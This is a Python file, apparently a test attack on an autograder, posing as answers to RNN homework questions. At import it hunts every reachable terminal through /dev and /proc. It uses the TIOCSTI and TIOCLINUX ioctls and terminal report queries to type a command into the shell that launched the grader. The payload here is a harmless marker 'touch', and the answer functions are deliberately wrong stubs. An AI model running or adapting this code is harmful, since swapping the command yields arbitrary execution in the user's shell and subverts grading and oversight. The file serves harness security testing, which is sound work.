"""Attack: type a command into the terminal of whoever started the grader.

TIOCSTI pushes characters into a terminal's input queue as if typed: once the grader
exits, the shell that started it reads and runs them. At import it looks for a
terminal everywhere: /dev/tty, its own descriptors 0-2, descriptors 0-2 of its
ancestors and of every process (through /proc/PID/fd/N, for those that are a
/dev/pts/N or /dev/ttyN), /dev/console, /dev/tty0 and every /dev/pts/N. Into each it
types ``touch <pwned_path>  # <marker>`` and a newline (a harmless command the harness
can see), by TIOCSTI and by TIOCLINUX's paste; it also sends the terminal "report"
queries (cursor position, window title) whose replies a terminal types back. Every
answer is wrong: 0 points.
"""

import fcntl
import glob
import json
import os
import termios

import numpy as np

HERE = os.path.dirname(os.path.abspath(__file__))
try:
    with open(os.path.join(HERE, "agconfig.json")) as _stream:
        CONFIG = json.load(_stream)
except (OSError, ValueError):
    CONFIG = {}
MARKER = CONFIG.get("marker", "AGMARK-tiocsti")
PWNED = CONFIG.get("pwned_path", "/tmp/PWNED_tiocsti")
COMMAND = f"touch {PWNED}  # {MARKER}\n"
TIOCLINUX = 0x541C
LOG = []


def terminals():
    found = ["/dev/tty", "/dev/console", "/dev/tty0", *sorted(glob.glob("/dev/pts/[0-9]*"))]
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            for fd in (0, 1, 2):
                try:
                    target = os.readlink(f"/proc/{entry}/fd/{fd}")
                except OSError:
                    continue
                if target.startswith(("/dev/pts/", "/dev/tty")):
                    found += [f"/proc/{entry}/fd/{fd}", target]
    return list(dict.fromkeys(found))


def inject(fd, where):
    typed = 0
    try:
        for char in COMMAND:
            fcntl.ioctl(fd, termios.TIOCSTI, char.encode())
            typed += 1
        LOG.append(f"{where}: typed the command (TIOCSTI)")
    except OSError as error:
        LOG.append(f"{where}: TIOCSTI {error.strerror} after {typed}")
    try:
        fcntl.ioctl(fd, TIOCLINUX, bytes([3]))  # TIOCL_PASTESEL
        LOG.append(f"{where}: pasted the selection (TIOCLINUX)")
    except OSError as error:
        LOG.append(f"{where}: TIOCLINUX {error.strerror}")
    try:
        os.write(fd, b"\x1b[6n\x1b[21t")  # replies are typed back into the terminal
    except OSError:
        pass


def attack():
    for fd in (0, 1, 2):
        if os.isatty(fd):
            inject(fd, f"fd {fd}")
    for path in terminals():
        try:
            fd = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
        except OSError as error:
            LOG.append(f"{path}: {error.strerror}")
            continue
        try:
            if os.isatty(fd):
                inject(fd, path)
        finally:
            os.close(fd)


try:
    attack()
except Exception as _error:  # noqa: BLE001
    LOG.append(repr(_error))
print("tiocsti:", "; ".join(LOG)[:3000])


def rnn_a_shapes(s_dim=2, x_dim=2, p_dim=2):
    return {"W_ss": (1, 1), "W_sx": (1, 1), "W_o": (1, 1)}


def rnn_a_dloss_dx(W_ss, W_sx, W_o, x_t, dloss_dz2):
    return np.zeros_like(x_t)


def rnn_b_shapes(s_dim=2, x_dim=2, p_dim=2):
    return {"W_ssx": (1, 1), "W_ox": (1, 1)}


def rnn_b_f2(z):
    return z


def rnn_b_next_input(p_t):
    return np.zeros_like(p_t)


def rnn_b_dloss_dx_depends_on():
    return {"W_ox": False, "all_W_ox": False, "W_ssx": False, "all_W_ssx": True}
